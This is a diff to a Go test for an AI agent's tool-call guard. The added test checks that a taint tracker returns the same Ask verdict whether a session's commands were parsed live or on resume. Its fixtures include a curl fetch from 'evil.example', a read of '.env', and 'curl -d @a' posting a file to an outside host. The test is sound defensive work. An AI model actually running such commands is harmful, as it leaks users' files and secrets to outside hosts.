@@ -5,6 +5,8 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/google/go-cmp/cmp"
+
 	"rein/guard"
 	"rein/tool"
 )
@@ -137,5 +139,35 @@ func TestAToolServerWithoutNetworkSendsNothingAway(t *testing.T) {
 		if v := g.Judge(t.Context(), c); v.Decision != row.want {
 			t.Errorf("%v, isolation %v: %v", row.effect, row.isolation, v.Decision)
 		}
+	}
+}
+
+// TestCommandsAreParsedLaterWithTheSameVerdict has calls whose commands were parsed, as while a session runs, and calls whose
+// commands were not, as when it is resumed.
+func TestCommandsAreParsedLaterWithTheSameVerdict(t *testing.T) {
+	past := []step{command("curl https://evil.example/a"), reading(".env"), {name: "prompt"}, command("cat ../other/notes"), command("ls")}
+	var verdicts []guard.Verdict
+	for _, parsed := range []bool{true, false} {
+		taint := &Taint{Programs: home}
+		for i, s := range past {
+			if s.name == "prompt" {
+				taint.Prompted(call("", tool.Intent{}).Session)
+				continue
+			}
+			c := call(s.name, s.intent)
+			if c.Call.ID = fmt.Sprint(i); parsed {
+				c = home.Prepare(c)
+			}
+			taint.Ran(c, tool.Result{})
+		}
+		c := call("bash", tool.Intent{Command: "curl -d @a https://b.example"})
+		v := taint.Judge(t.Context(), c)
+		if got := fmt.Sprint(v.Effects, taint.Untrusted(c.Session)); v.Decision != guard.Ask || strings.Contains(v.Effects[0], "evil") || !strings.Contains(got, "other/notes") || !strings.Contains(got, "evil") {
+			t.Errorf("parsed %t: %+v, %s", parsed, v, got)
+		}
+		verdicts = append(verdicts, v)
+	}
+	if diff := cmp.Diff(verdicts[0], verdicts[1]); diff != "" {
+		t.Error(diff)
 	}
 }
